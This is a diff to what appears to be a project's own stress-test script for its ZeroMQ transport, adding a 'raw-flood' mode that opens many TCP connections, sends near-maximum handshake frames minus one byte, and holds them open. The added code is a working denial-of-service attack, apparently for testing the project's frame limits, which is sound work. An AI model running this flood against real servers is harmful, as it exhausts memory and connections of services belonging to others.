@@ -10,7 +10,11 @@ It holds none of the render's credentials. Attacks (``ATTACK``):
 - ``raw-frame``: over plain TCP, a ZMTP greeting that asks for PLAIN, then a command frame
   that declares ``--frame-mb`` and sends it all (what ZeroMQ reads before any check);
 - ``raw-partial``: ``--connections`` TCP connections that each declare such a frame, send
-  half of it and hold the connection open for ``--hold`` seconds.
+  half of it and hold the connection open for ``--hold`` seconds;
+- ``raw-flood``: ``--connections`` TCP connections (say 1,000) that each declare a handshake
+  frame of the largest size the target accepts (``FRAME_LIMIT`` - 1), send all of it but its
+  last byte (so the target holds it whole) and hold the connection for ``--hold`` seconds;
+  ``--mechanism CURVE`` against a target with keys.
 
 It sends from one 1 MB buffer, so the attacker itself stays small; it prints how many bytes
 the target took before it closed each connection.
@@ -25,6 +29,8 @@ import sys
 import time
 
 import zmq
+
+from vastray.transport.codec import FRAME_LIMIT
 
 CHUNK = b"\0" * (1 << 20)
 
@@ -58,6 +64,47 @@ def raw(host: str, port: int, declared: int, send: int, connections: int, hold: 
     return taken
 
 
+def flood(host: str, port: int, connections: int, mechanism: bytes, hold: float) -> str:
+    """``raw-flood``: what the target was sent and how many connections it let us keep."""
+    declared = FRAME_LIMIT - 1
+    held, sent, cut = [], 0, 0
+    for _ in range(connections):
+        try:
+            conn = socket.create_connection((host, port), timeout=10)
+        except OSError:
+            cut += 1
+            continue
+        try:
+            conn.sendall(greeting(mechanism))
+            conn.sendall(b"\x06" + struct.pack(">Q", declared))
+            conn.sendall(CHUNK[:declared - 1])
+            sent += declared - 1
+            held.append(conn)
+        except OSError:
+            cut += 1  # the target turned this connection away
+            conn.close()
+    time.sleep(hold)
+    alive = 0
+    for conn in held:
+        alive += still_open(conn)
+        conn.close()
+    return (f"flood: {connections} connections, {sent / 1e6:.0f} MB of handshake frames sent, "
+            f"{alive} still open after {hold:.0f} s, {cut} cut off while sending")
+
+
+def still_open(conn: socket.socket) -> bool:
+    """Whether the other end has not closed ``conn`` (what it sent before is read past)."""
+    conn.setblocking(False)
+    try:
+        while conn.recv(1 << 16):
+            pass
+        return False  # the end of the stream
+    except BlockingIOError:
+        return True
+    except OSError:
+        return False
+
+
 def zmq_frames(endpoint: str, frame_bytes: int, password: bytes | None, hold: float) -> None:
     ctx = zmq.Context()
     sock = ctx.socket(zmq.DEALER)
@@ -84,7 +131,8 @@ def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     parser.add_argument("endpoint")
     parser.add_argument("attack", choices=["zmq-frames", "zmq-wrong-secret", "raw-frame",
-                                           "raw-partial"])
+                                           "raw-partial", "raw-flood"])
+    parser.add_argument("--mechanism", choices=["PLAIN", "CURVE"], default="PLAIN")
     parser.add_argument("--frame-mb", type=int, default=900)
     parser.add_argument("--connections", type=int, default=3)
     parser.add_argument("--hold", type=float, default=3.0)
@@ -95,6 +143,8 @@ def main(argv: list[str] | None = None) -> int:
         zmq_frames(args.endpoint, frame, None, args.hold)
     elif args.attack == "zmq-wrong-secret":
         zmq_frames(args.endpoint, frame, b"0" * 32, args.hold)
+    elif args.attack == "raw-flood":
+        print(flood(host, int(port), args.connections, args.mechanism.encode(), args.hold))
     elif args.attack == "raw-frame":
         print(f"taken {raw(host, int(port), frame, frame, 1, args.hold)}")
     else:
